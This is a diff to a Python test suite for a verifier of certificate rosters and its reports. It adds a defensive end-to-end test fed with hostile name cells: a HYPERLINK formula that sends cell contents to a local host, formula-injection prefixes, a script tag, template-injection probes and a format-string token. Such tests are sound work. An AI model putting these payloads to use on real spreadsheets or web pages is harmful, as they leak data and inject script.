@@ -8,6 +8,7 @@ import re
 import zipfile
 from collections import Counter
 from dataclasses import dataclass
+from datetime import date
 
 import jsonschema
 import openpyxl
@@ -21,11 +22,11 @@ from python_calamine import CalamineWorkbook
 import verifier.results
 from rules.claim import FIELDS
 from rules.rule import Severity, rule
-from verifier import reports
+from verifier import reports, rosters
 from verifier.reports import colours, csv_report, picture, wording, xlsx
 from verifier.results import Results
 from verifier.rosters import Layout, Refused, Roster, SheetLayout, Skipped
-from verifier.screening import Notice, Summary
+from verifier.screening import Notice, Summary, screen
 from verifier.verdict import ORDER, Outcome
 
 HEADINGS = ("序号", "姓名", "身份证号", "证书编号", "操作项目", "有效期至", "备注")
@@ -129,7 +130,7 @@ CASES = (
     Case("confirmed", False, 0.0, "测试丁", state="found"), Case("differs", True, 72.0, "测试戊", ("RG05",), state="found"),
     Case("lapsed", False, 8.0), Case("unchecked", False, 11.5, "测试己", questions=("CT90",), item=""),
     Case("not_found_once", True, 40.0, state="not_found"),
-    *(Case(name=text, note=text, risk=10.0) for text in HOSTILE),
+    Case("other_register", False, 2.0, "测试庚", regime="SAMR_OPERATOR"), *(Case(name=text, note=text, risk=10.0) for text in HOSTILE),
 )
 
 
@@ -339,8 +340,13 @@ def test_a_kind_that_there_is_not_is_refused(write):
 
 def test_flagged_rows_come_first_and_quiet_ones_not_at_all(write):
     sheet = table_of(openpyxl.load_workbook(write("xlsx"))["需要关注"])
-    assert [row["结论"].value for row in sheet] == ["存在硬伤", "登记不符", "一次未查到", "信息待更正", "已失效", "待核验"]
+    assert [row["结论"].value for row in sheet] == ["存在硬伤", "登记不符", "一次未查到", "信息待更正", "已失效", "属其他登记库", "待核验"]
     assert [row["姓名"].value for row in sheet][:2] == ["测试乙", "测试戊"]
+
+
+def test_where_another_register_holds_the_record_is_said(write):
+    row = table_of(openpyxl.load_workbook(write("xlsx"))["需要关注"])[5]
+    assert "cnse.samr.gov.cn" in row["疑点与待补正"].value and "cnse.samr.gov.cn" in write("html").read_text(encoding="utf-8")
 
 
 def test_the_cell_that_is_wrong_is_coloured_and_says_why(write):
@@ -427,3 +433,25 @@ def test_other_programs_read_every_row_of_the_workbook_as_it_was_sent(write):
     at = sheet[0].index("备注")
     for line, case in zip(sheet[1:], CASES, strict=True):
         assert line[at] == xlsx.NOT_XML.sub("\ufffd", case.note), case.note
+
+
+def test_a_roster_with_hostile_cells_goes_all_the_way(tmp_path, monkeypatch):
+    """Read, screened and reported by the real parts: cases CE-06, CE-09, CE-10 and CE-26 of the bad inputs."""
+    monkeypatch.undo()
+    names = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "@SUM(A1)", "\t=1+1", "<script>alert(1)</script>{{7*7}}${7*7}%n"]
+    sent = tmp_path / "sent.csv"
+    with sent.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["姓名", "身份证号", "证书编号", "操作项目", "有效期结束日期"],
+                                    *([name, "331081189703010078", "T331081189703010078", "低压电工作业", "2029-06-10"] for name in names)])
+    roster = rosters.read(sent, "名册.csv", rosters.Limits(), tmp_path / "roster.parquet")
+    summary = screen(tmp_path / "roster.parquet", tmp_path / "results.parquet", as_of=date(2026, 11, 23))
+    for kind in reports.KINDS:
+        reports.write(kind, tmp_path / "results.parquet", roster, summary, tmp_path / f"report.{kind}")
+    told = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
+    jsonschema.validate(told, CONTRACT)
+    assert told["roster"]["rows"] == len(told["rows"]) == 4 and summary.rows == 4
+    cells = [row["姓名"] for row in table_of(openpyxl.load_workbook(tmp_path / "report.xlsx")["全部行"])]
+    assert [(cell.data_type, cell.value) for cell in cells] == [("s", name) for name in names]
+    with (tmp_path / "report.csv").open(encoding="utf-8-sig", newline="") as file:
+        assert [csv_report.unguarded(line["姓名"]) for line in csv.DictReader(file)] == names
+    assert not BeautifulSoup((tmp_path / "report.html").read_text(encoding="utf-8"), "html.parser").find_all("script")
